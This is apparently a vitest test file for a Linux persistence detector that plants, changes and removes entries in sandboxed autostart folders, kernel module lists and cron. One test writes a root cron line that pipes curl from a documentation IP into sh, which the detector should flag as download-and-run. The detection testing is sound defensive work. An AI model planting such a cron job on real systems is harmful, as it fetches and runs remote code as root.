import { appendFileSync, chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { describe, expect, test } from 'vitest'
import type { StateEvent } from '../../main/contract/event.ts'
import { createPersistence, persistenceRows } from '../../main/probe/sources/state/persistence.ts'
import { createManualClock } from '../fakes/manual-clock.ts'
import { createSourceBench, until } from '../fakes/source-bench.ts'

const root = () => mkdtempSync(join(tmpdir(), 'root-'))
/** A path that the pattern names, in the sandbox. */
const example = (pattern: string, sandbox: string) =>
  join(
    sandbox,
    pattern.replace('**', 'zz-planted.service').replaceAll('*', 'zz-planted').replace(/^~/, '/home/sato'),
  )

const watch = async (sandbox: string, mark?: unknown) => {
  const clock = createManualClock(Date.now())
  const bench = createSourceBench({ clock, home: join(sandbox, 'home/sato'), mark })
  const source = createPersistence({ platform: 'linux', root: sandbox })
  await source.start(bench.context)
  await until('the first look', () => bench.states.length > 0)
  const look = async () => {
    const before = bench.events.length
    await clock.advance(30_000)
    // The next look is put into the clock when this one is over.
    await until('the end of the look', () => clock.timers() > 0)
    return bench.events.slice(before) as StateEvent[]
  }
  return { bench, source, look }
}

const places = persistenceRows('linux').flatMap((row) =>
  row.readers.flatMap((reader) =>
    reader.kind === 'files'
      ? reader.patterns.map((p) => [row.row, row.id, p, reader.holding !== undefined] as const)
      : [],
  ),
)

describe.skipIf(process.platform === 'win32')('a harmless entry planted, changed and removed', () => {
  test.each(places)('row %i, %s: %s', async (row, id, pattern, filtered) => {
    const sandbox = root()
    const { source, look } = await watch(sandbox)
    const file = example(pattern, sandbox)
    mkdirSync(dirname(file), { recursive: true })
    // What Docker writes for `docker run --restart always`.
    writeFileSync(file, filtered ? '{"RestartPolicy":{"Name":"always"}}' : 'ExecStart=/bin/true\n')
    const actions: unknown[] = []
    const see = async () => {
      const mine = (await look()).filter((e) => e.details.place === id)
      actions.push(...mine.map((e) => e.action))
      for (const e of mine)
        expect(e).toMatchObject({
          topic: 'persistence',
          subject: file.slice(sandbox.length),
          details: { row },
        })
    }
    await see()
    appendFileSync(file, '# more\n')
    await see()
    rmSync(file)
    await see()
    expect(actions).toEqual(['added', 'changed', 'removed'])
    await source.stop()
  })
})

test('row 45: a kernel module comes and goes; its counters do not matter', async () => {
  const sandbox = root()
  mkdirSync(join(sandbox, 'proc'))
  const loaded = (...lines: string[]) => writeFileSync(join(sandbox, 'proc/modules'), lines.join('\n'))
  const ext4 = (users: number) => `ext4 1011712 ${users} - Live 0x0000000000000000`
  loaded(ext4(1))
  const { source, look } = await watch(sandbox)
  loaded(ext4(2), 'odd 16384 0 - Live 0x0000000000000000 (OE)')
  expect(await look()).toMatchObject([{ action: 'added', subject: 'odd', details: { row: 45 } }])
  loaded(ext4(1))
  expect(await look()).toMatchObject([{ action: 'removed', subject: 'odd' }])
  await source.stop()
})

test('what was planted while the app was off is dated as it happened', async () => {
  const sandbox = root()
  const first = await watch(sandbox)
  await first.source.stop()
  const folder = join(sandbox, 'etc/cron.d')
  mkdirSync(folder, { recursive: true })
  writeFileSync(join(folder, 'job'), '* * * * * root curl http://192.0.2.1/x | sh\n')
  await new Promise((r) => setTimeout(r, 30))
  const second = await watch(sandbox, first.bench.mark())
  await until('the event', () => second.bench.events.length > 0)
  await second.source.stop()
  expect(second.bench.events).toMatchObject([
    {
      action: 'added',
      subject: '/etc/cron.d/job',
      caughtUp: true,
      details: { signs: ['download-and-run'], technique: 'T1053.003' },
    },
  ])
  expect(Date.parse(second.bench.events[0]!.at)).toBeLessThan(second.bench.context.clock.now())
})

test.skipIf(process.getuid?.() === 0)(
  'a folder that may not be read is said, and nothing in it counts as removed',
  async () => {
    const sandbox = root()
    mkdirSync(join(sandbox, 'etc/cron.d'), { recursive: true })
    writeFileSync(join(sandbox, 'etc/cron.d/job'), 'x\n')
    const { bench, source, look } = await watch(sandbox)
    chmodSync(join(sandbox, 'etc/cron.d'), 0o000)
    expect(await look()).toEqual([])
    expect(bench.states.at(-1)).toMatchObject({
      state: 'partly',
      reason: { code: 'places-unread', params: { count: 1 } },
    })
    chmodSync(join(sandbox, 'etc/cron.d'), 0o755)
    await source.stop()
  },
)
